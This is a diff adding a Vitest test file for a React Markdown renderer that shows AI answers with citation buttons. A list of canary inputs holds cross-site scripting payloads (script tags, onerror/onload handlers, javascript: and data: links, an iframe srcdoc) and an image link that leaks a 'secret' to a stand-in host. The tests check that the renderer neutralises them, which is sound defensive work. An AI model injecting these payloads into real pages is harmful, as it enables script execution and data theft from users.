@@ -1,0 +1,65 @@
+import { createElement } from "react";
+import { renderToStaticMarkup } from "react-dom/server";
+import { beforeAll, describe, expect, test } from "vitest";
+import { allMessages } from "../../i18n";
+import { citations, safeLink, settled, withoutMarkers } from "./citations";
+import Markdown from "./Markdown";
+
+beforeAll(allMessages);
+
+const CANARIES = [
+  "<script>window.ran = true</script>",
+  '<img src=x onerror="window.ran = true">',
+  "[click](javascript:window.ran=true)",
+  "[click](  JaVaScRiPt:alert(1))",
+  "[click](data:text/html,<script>1</script>)",
+  "![x](https://evil.example/?q=secret)",
+  '<a href="javascript:alert(1)">x</a>',
+  "<iframe srcdoc='<script>1</script>'></iframe>",
+  '"><svg onload=window.ran=true>',
+  "<cite data-number=1 onclick=alert(1)>1</cite>",
+  "[x]: javascript:alert(1)\n\n[x]",
+  "<javascript:alert(1)>",
+];
+
+const source = (about: Record<string, unknown> = {}) => ({ number: 1, document_id: "d", chunk_id: 2, filename: "handbook.pdf", page: 3, ...about });
+const html = (text: string, found = [source()], isWriting = false) =>
+  renderToStaticMarkup(createElement(Markdown, { text, citations: citations(found), isWriting, onCite: () => undefined }));
+
+describe("an answer's markdown", () => {
+  test("is written as elements, its headings below those of the page", () => {
+    const shown = html("# Hours\n\n**At nine** [1].\n\n| a | b |\n|---|---|\n| 1 | 2 |");
+    expect(shown).toContain("<h3>Hours</h3>");
+    expect(shown).toContain("<strong>At nine</strong>");
+    expect(shown).toContain("<table>");
+  });
+
+  test("has a button for each source, which says where it leads", () => {
+    const shown = html("At nine [1]. Until six [1][2].");
+    expect(shown.match(/<button/g)).toHaveLength(2);
+    expect(shown).toContain('aria-label="Source 1: handbook.pdf, page 3"');
+    expect(shown).toMatch(/<span class="[^"]*">2<\/span>/);
+  });
+
+  test("leaves brackets in code as they are", () => expect(html("`list[1]`")).toContain("list[1]"));
+
+  test("does not show a marker that has only begun", () => {
+    expect(html("At nine [1", [], true)).not.toContain("[");
+    expect(settled("At nine [12")).toBe("At nine");
+    expect(withoutMarkers("At nine [1]. Until six [1][2].")).toBe("At nine. Until six.");
+  });
+
+  test.each(CANARIES)("makes nothing that runs or asks abroad of %s", (canary) => {
+    for (const shown of [html(canary), html(`At nine [1] ${canary}`, [source({ filename: canary })])]) {
+      const elements = shown.replace(/="[^"]*"/g, "");
+      expect(elements).not.toMatch(/<(script|img|iframe|svg|object|embed|form|style|link)\b/i);
+      expect(elements).not.toMatch(/<[^>]*\son\w+/i);
+      expect(shown).not.toMatch(/(href|src)="(?!https?:|mailto:)/i);
+    }
+  });
+});
+
+test("links lead to the web or to a letter, and nowhere else", () => {
+  const all = ["https://example.org/a", "mailto:a@example.org", "javascript:alert(1)", "/app/settings", "//evil.example", "vbscript:x", "blob:x"];
+  expect(all.filter(safeLink)).toEqual(["https://example.org/a", "mailto:a@example.org"]);
+});
